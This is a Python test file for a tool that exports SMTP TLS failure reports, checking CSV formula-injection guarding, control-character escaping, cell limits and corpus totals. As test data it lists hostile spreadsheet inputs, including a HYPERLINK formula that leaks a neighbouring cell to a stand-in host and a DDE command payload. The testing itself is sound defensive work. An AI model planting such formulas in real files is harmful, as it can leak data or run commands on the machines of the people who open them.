def test_long_texts_end_a_row_group_early(
    sqlite_engine: sa.Engine, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "_GROUP_CHARACTERS", 10_000)
    long = [detail(additional_information="x" * 6_000) for _ in range(4)]
    store_report(sqlite_engine, report_json(entry(0, 4, *long)), settings)
    groups = pq.ParquetFile(io.BytesIO(exported(sqlite_engine, "failures", "parquet"))).metadata
    assert groups.num_row_groups == 2


# Text from strangers

GUARDED = [
    ("=1+1", "a formula"),
    ("+1", "a formula by its sign"),
    ("-1", "a text that looks like a negative number"),
    ("@SUM(A1)", "an old Lotus function"),
    ("\t=1", "OWASP: tab"),
    ("\tx", "OWASP: tab"),
    ("\rx", "OWASP: carriage return"),
    ("\nx", "OWASP: line feed"),
    ("＝1", "full width"),
    ("＋1", "full width"),
    ("－1", "full width"),
    ("＠A", "full width"),
    ("  =1", "blanks are skipped"),
    ("\u00a0=1", "no-break space"),
    ("\u3000=1", "ideographic space"),
    ("\ufeff=1", "byte order mark"),
    ("\u200b=1", "zero-width space"),
    ('"=1', "a quote is skipped"),
    ("'=1", "an apostrophe of the text's own"),
    ("“=1", "a typographic quote"),
    ('=HYPERLINK("http://x.example/?"&A1,"ok")', "leaks the neighbour's cell"),
    ("=cmd|' /C calc'!A0", "DDE"),
]
INSIDE = [
    ("a;=1", "a;'=1", "the separator of the German Excel"),
    ("a\t=1", "a\t'=1", "the separator of a paste"),
    ("a\n=1", "a\n'=1", "a line break that is not honoured inside quotes"),
    ("a\r\n -1", "a\r\n' -1", "the same, with a blank"),
    ('a;"=1', "a;'\"=1", "the same, with a quote"),
]
PLAIN = [
    "",
    "a",
    "mx1.receiver.example",
    "192.0.2.1",
    "2001:db8::1",
    "a=b",
    "a+b@receiver.example",
    "1-2",
    "'tis",
    "a, -b",
    "<b>",
    "mx\nSIZE 1",
    "é",
]


@pytest.mark.parametrize("text", [text for text, _ in GUARDED])
def test_no_cell_begins_a_formula(text: str) -> None:
    assert writing.csv_text(text)[0] == "'"
    assert _undone(writing.csv_text(text)) == text


@pytest.mark.parametrize(("text", "cell"), [(text, cell) for text, cell, _ in INSIDE])
def test_no_cell_begins_a_formula_inside(text: str, cell: str) -> None:
    assert writing.csv_text(text) == cell
    assert _undone(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_alone(text: str) -> None:
    assert writing.csv_text(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a\0b", "a\\x00b"),  # ends the text for readers written in C
        ("\x1b[31mred", "\\x1b[31mred"),  # a terminal obeys it
        ("\x9b31m", "\\x9b31m"),  # the same in one character
        ("a\bb", "a\\x08b"),
        ("a\u202eb", "a\\u202eb"),  # turns around what follows
        ("a\u2028b", "a\\u2028b"),  # a line break for some
        ("a\tb\r\nc\rd", "a\tb\r\nc\rd"),
    ],
)
def test_control_characters_are_shown_not_obeyed(text: str, cell: str) -> None:
    assert writing.csv_text(text) == cell


def test_guarding_a_long_text_takes_one_pass() -> None:
    """Quadratic, this would run into the suite's time-out."""
    for bomb in ("\t" * 5_000_000, ";" * 5_000_000, " " * 5_000_000, "'" * 5_000_000, "; " * 2_500_000):
        formats._FORMULA.sub("'", bomb)


@pytest.mark.parametrize(
    "text",
    ["x" * 16_001, ";=" * 8_000, "\0" * 16_000, "=" + "x" * 16_000, "x" * 32_767 + "=1+1", "\U0001f4a3" * 20_000],
)
def test_no_cell_is_longer_than_a_spreadsheet_holds(text: str) -> None:
    """Excel goes on in a new row, where a formula would begin."""
    cell = writing.csv_text(text)
    assert cell[-1] == "…"
    assert len(cell.encode("utf-16-le")) // 2 <= 32_767


def test_a_long_cell_that_fits_is_whole() -> None:
    assert writing.csv_text("x" * 16_000) == "x" * 16_000


_BEGINS = "[\\s\u200b-\u200f\u2060-\u2064\u00ad\ufeff\"'`\u2018-\u201f\uff02\uff07]"


def _undone(cell: str) -> str:
    """What docs/exports.md tells the reader of a CSV file to do."""
    blanks = _BEGINS.replace("\\s", " \u00a0\u1680\u2000-\u200a\u202f\u205f\u3000")
    signs = "[=+\\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]"
    return re.sub(rf"\A'(?={blanks}*(?:{signs}|[\t\r\n]))|(?<=[;\t\r\n])'(?={blanks}*{signs})", "", cell)


def _with_escapes(text: str) -> str:
    acting = "[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
    return re.sub(acting, lambda m: m[0].encode("unicode_escape").decode(), text)


NASTY = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="=+-@;\t\r\n '\"`＝\ufe66a,\0\x1b\u202e\u200e\ufeff\u200b\\", max_size=12),
)


@hypothesis_settings(max_examples=500, deadline=None)
@given(NASTY)
def test_any_guarded_cell_is_safe_and_can_be_undone(text: str) -> None:
    cell = writing.csv_text(text)
    assert _undone(cell) == _with_escapes(text)
    for start in re.split("[;\t\r\n]", cell):
        assert re.match(_BEGINS + "*[=+\\-@＝＋－＠\ufe66\ufe62\ufe63\ufe6b]", start) is None or start[0] == "'"
    assert not cell.startswith(("\t", "\r", "\n"))


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[sa.Engine]:
    url = f"sqlite:///{tmp_path_factory.mktemp('export')}/starttally.db"
    upgrades.migrate(url)
    engine = engines.open_engine(url)
    yield engine
    engine.dispose()


@pytest.fixture
def empty(scratch: sa.Engine) -> sa.Engine:
    _clear(scratch)
    return scratch


def _clear(engine: sa.Engine) -> None:
    with engine.begin() as connection:
        for table in models.metadata.sorted_tables:
            connection.execute(sa.delete(table))


@hypothesis_settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=NASTY, information=NASTY)
def test_any_text_comes_back(scratch: sa.Engine, settings: Settings, name: str, information: str) -> None:
    _clear(scratch)
    report = report_json(entry(0, 1, detail(additional_information=information)), organization_name=name)
    store_report(scratch, report, settings)
    # Intake makes NUL storable (PostgreSQL takes none).
    name, information = name.replace("\0", "\ufffd"), information.replace("\0", "\ufffd")
    (row,) = rows(scratch, "failures")
    assert (row["reporter"], row["additional_information"]) == (name, information)
    (row,) = parquet_rows(exported(scratch, "failures", "parquet"))
    assert (row["reporter"], row["additional_information"]) == (name, information)
    (cells,) = csv_rows(exported(scratch, "failures"))
    assert _undone(cells["reporter"]) == _with_escapes(name)
    assert _undone(cells["additional_information"]) == _with_escapes(information)


def test_json_is_exact_and_does_nothing_in_a_terminal(sqlite_engine: sa.Engine, settings: Settings) -> None:
    text = "\x1b[31m \x9b31m \x7f \u202e \u2066 \u2028 é 中"
    store_report(sqlite_engine, report_json(entry(0, 1, detail(additional_information=text))), settings)
    data = exported(sqlite_engine, "failures", "json").decode()
    assert json.loads(data)[0]["additional_information"] == text
    assert _with_escapes(data.replace("\n", "")) == data.replace("\n", "")
    assert "é 中" in data


def test_our_own_values_carry_no_apostrophe(sqlite_engine: sa.Engine, settings: Settings) -> None:
    store_report(sqlite_engine, report_json(), settings)
    for kind in EXPORTS:
        assert b"'" not in exported(sqlite_engine, kind)


def test_csv_lines_end_as_rfc_4180_says(sqlite_engine: sa.Engine, settings: Settings) -> None:
    helo = 'mx1.receiver.example\nSIZE 1, "8BITMIME"'
    store_report(sqlite_engine, report_json(entry(0, 1, detail(receiving_mx_helo=helo))), settings)
    data = exported(sqlite_engine, "failures")
    assert data.endswith(b"\r\n")
    assert b',"mx1.receiver.example\nSIZE 1, ""8BITMIME""",' in data
    assert data.replace(helo.replace('"', '""').encode(), b"").count(b"\n") == data.count(b"\r\n") == 2


# The corpus, against an independent reading

FILES = sorted(path for path in CORPUS.rglob("*") if path.suffix in {".json", ".gz", ".eml"}) if CORPUS.exists() else []
KNOWN = {
    line["file"]: line["report"]
    for line in map(json.loads, (CORPUS / "EXPECTED.jsonl").read_text().splitlines() if FILES else [])
}


def _policies(path: Path) -> list[dict[str, Any]] | None:
    """The ``policies`` of the report in a file, with nothing but the standard library."""
    data = path.read_bytes()
    if path.suffix == ".eml":
        parts = [part.get_payload(decode=True) or b"" for part in email.message_from_bytes(data).walk()]
        data = next((part for part in parts if part[:2] == b"\x1f\x8b" or part.lstrip()[:1] == b"{"), b"")
    try:
        value = json.loads(gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data)
    except (ValueError, EOFError, OSError):
        return None
    return value.get("policies") if isinstance(value, dict) and value.get("date-range") else None


def _expected_sums(policies: list[dict[str, Any]]) -> tuple[int, int, int]:
    """Successful sessions, failed sessions, and the failures of details plus what the details do not explain."""
    successful = failed = told = 0
    for policy in policies:
        summary = policy.get("summary") or {}
        total = int(summary.get("total-failure-session-count") or 0)
        details = sum(int(row.get("failed-session-count") or 0) for row in policy.get("failure-details") or [])
        successful += int(summary.get("total-successful-session-count") or 0)
        failed += total
        told += details + max(0, total - details)
    return successful, failed, told


def _sums(engine: sa.Engine) -> tuple[int, int, int]:
    summary, failures = csv_rows(exported(engine, "summary")), csv_rows(exported(engine, "failures"))
    return (
        sum(int(row["successful_sessions"] or 0) for row in summary),
        sum(int(row["failed_sessions"] or 0) for row in summary),
        sum(int(row["failed_sessions"] or 0) for row in failures),
    )


@pytest.mark.skipif(not FILES, reason="needs the shared corpus beside the checkout")
@pytest.mark.parametrize("path", FILES, ids=lambda path: str(path.relative_to(CORPUS)))
def test_the_sums_of_a_corpus_file(empty: sa.Engine, settings: Settings, path: Path) -> None:
    tally = store_file(empty, path.read_bytes(), settings, name=path.name, door=channels.LOAD)
    if KNOWN[str(path.relative_to(CORPUS))] is None:
        assert (tally.stored, _sums(empty)) == (0, (0, 0, 0))
        return
    policies = _policies(path)
    assert policies is not None
    assert tally.stored == 1
    assert _sums(empty) == _expected_sums(policies)


@pytest.mark.skipif(not FILES, reason="needs the shared corpus beside the checkout")
def test_the_sums_of_the_whole_corpus(engine: sa.Engine) -> None:
    """Two pairs in it have one id, one range and other figures: the RFC's example, and a report of Microsoft's."""
    settings = settings_module.load()
    of_reports: dict[tuple[str, ...], list[tuple[int, ...]]] = {}
    for path in FILES:
        known = {(row["policy_domain"], row["report_key"]) for row in stored_rows(engine)}
        store_file(engine, path.read_bytes(), settings, name=path.name)
        new = [row for row in stored_rows(engine) if (row["policy_domain"], row["report_key"]) not in known]
        for row in new[:1]:
            of_reports.setdefault((row["policy_domain"], row["same_id"], row["voice"]), []).append(
                _expected_sums(_policies(path) or [])
            )
    assert any(len(sums) > 1 for sums in of_reports.values())
    most = [max(sums, key=lambda counts: counts[0] + counts[1]) for sums in of_reports.values()]
    assert _sums(engine) == tuple(map(sum, zip(*most, strict=True)))


def stored_rows(engine: sa.Engine) -> list[dict[str, Any]]:
    with engine.connect() as connection:
        return [dict(row) for row in connection.execute(sa.select(models.report)).mappings()]
